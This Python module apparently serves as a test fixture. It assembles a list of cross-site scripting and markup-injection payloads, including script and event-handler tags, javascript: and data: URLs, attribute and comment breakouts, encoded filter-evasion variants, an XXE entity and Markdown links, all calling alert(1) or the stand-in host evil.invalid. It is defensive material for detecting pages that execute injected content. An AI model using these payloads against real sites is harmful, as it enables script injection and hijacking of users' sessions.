"""Texts that a page would obey if it took them for more than text: scripts, addresses, styles, and ways out of marks.

Each calls ``alert`` or asks for something of ``http://evil.invalid``, so that a page which obeys can be caught.
"""

from __future__ import annotations

__all__ = ["INJECTIONS"]

_RUN = "alert(1)"
_TAGS = (  # elements that run something by themselves, load it, or change what is around them
    *(
        "<script>{}</script>",
        "<script src=http://evil.invalid/s></script>",
        "<SCRIPT>{}</SCRIPT>",
        "<script\x0c>{}</script>",
    ),
    *("<img src=x onerror={}>", "<img src=http://evil.invalid/i>", "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>"),
    *("<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s></svg>"),
    *("<svg><set onbegin={} attributename=x></svg>", "<svg><a xlink:href=javascript:{}><text>a</text></a></svg>"),
    *(
        "<svg><use href=http://evil.invalid/u#x /></svg>",
        "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    ),
    *(
        "<iframe src=javascript:{}></iframe>",
        "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
        "<embed src=http://evil.invalid/e>",
    ),
    *("<object data=javascript:{}></object>", "<object data=http://evil.invalid/o></object>", "<frameset onload={}>"),
    *(
        "<body onload={}>",
        "<html onmouseover={}>",
        "<base href=http://evil.invalid/>",
        "<link rel=stylesheet href=http://evil.invalid/l>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=http://evil.invalid/m'>",
        "<style>*{{background:url(http://evil.invalid/c)}}</style>",
    ),
    *(
        "<style>@import 'http://evil.invalid/a';</style>",
        "<video src=x onerror={}></video>",
        "<audio src=x onerror={}></audio>",
    ),
    *(
        "<video poster=http://evil.invalid/p></video>",
        "<source onerror={}>",
        "<input onfocus={} autofocus>",
        "<select onfocus={} autofocus>",
    ),
    *(
        "<textarea onfocus={} autofocus>",
        "<keygen onfocus={} autofocus>",
        "<details open ontoggle={}>x</details>",
        "<marquee onstart={}>x</marquee>",
    ),
    *(
        "<button formaction=javascript:{}>x</button>",
        "<form action=javascript:{}><input type=submit></form>",
        "<isindex action=javascript:{}>",
    ),
    *(
        "<a href=javascript:{}>x</a>",
        "<a href=' javascript:{}'>x</a>",
        "<a href='java\tscript:{}'>x</a>",
        "<a href=data:text/html,<script>{}</script>>x</a>",
    ),
    *(
        "<math><mi xlink:href=javascript:{}>x</mi></math>",
        "<table background=http://evil.invalid/t>",
        "<td background=javascript:{}>",
    ),
    *(
        "<div style='background:url(http://evil.invalid/d)'>x</div>",
        "<div style=width:expression({})>x</div>",
        "<x contenteditable onblur={}>x</x>",
    ),
    *(
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<portal src=http://evil.invalid/q>",
    ),
    *(
        "<img srcset='http://evil.invalid/z 1x'>",
        "<dialog open onclose={}>x</dialog>",
        "<bgsound src=javascript:{}>",
        "<applet code={}>",
    ),
)
_WAYS_OUT = (  # of an attribute, an element, a comment, a style, a script or a table of strings
    *(
        '"><img src=x onerror={}>',
        "'><img src=x onerror={}>",
        '" onmouseover="{}',
        "' onmouseover='{}",
        "` onmouseover=`{}",
        '" autofocus onfocus="{}',
    ),
    *(
        "</p></div></figure></table><script>{}</script>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</style><script>{}</script>",
    ),
    *(
        "</script><script>{}</script>",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "*/{}/*",
        "';{}//",
        '";{}//',
        "\\';{}//",
        "${{{}}}",
        "{{{{{}}}}}",
    ),
    *(
        "</svg><script>{}</script>",
        "</text></g></svg><img src=x onerror={}>",
        "</summary></details><img src=x onerror={}>",
        "</mark><img src=x onerror={}>",
    ),
    *(
        "</option></select><img src=x onerror={}>",
        "</xmp><img src=x onerror={}>",
        "<!--<img src='--><img src=x onerror={}>'>",
        "<![CDATA[<img src=x onerror={}>]]>",
    ),
    *(
        "<?xml version='1.0'?><x/>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.invalid/x'>]>&e;",
        "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    ),
)
_ADDRESSES = (  # where an address is wanted
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\nscript:{}",
        "\x01javascript:{}",
        "javascript&colon;{}",
        "vbscript:{}",
        "data:text/html,<script>{}</script>",
    ),
    *(
        "//evil.invalid/x",
        'http://evil.invalid/" onmouseover="{}',
        "http://evil.invalid/' onmouseover='{}",
        "https://x/<script>{}</script>",
    ),
)
_SPELT = (  # otherwise, so that a filter lets them through
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&#x3c;img src=x onerror={}&#x3e;",
        "%3Cscript%3E{}%3C/script%3E",
    ),
    *(
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "+ADw-script+AD4-{}+ADw-/script+AD4-",
        "＜script＞{}＜/script＞",
        "<scr\0ipt>{}</scr\0ipt>",
    ),
    *(
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<\u200bscript>{}</script>",
        "<img src=x onerror\u3000={}>",
        '<IMG """><SCRIPT>{}</SCRIPT>">',
    ),
)
_MARKDOWN = (
    *(
        "[x](javascript:{})",
        "![x](http://evil.invalid/md)",
        "<javascript:{}>",
        "[x](data:text/html,<script>{}</script>)",
        "[x]: javascript:{}",
    ),
    *(
        "**<img src=x onerror={}>**",
        "`<img src=x onerror={}>`",
        "[<img src=x onerror={}>](http://a.invalid)",
        "# <img src=x onerror={}>",
    ),
)
INJECTIONS = tuple(each.format(_RUN) for each in (*_TAGS, *_WAYS_OUT, *_ADDRESSES, *_SPELT, *_MARKDOWN))
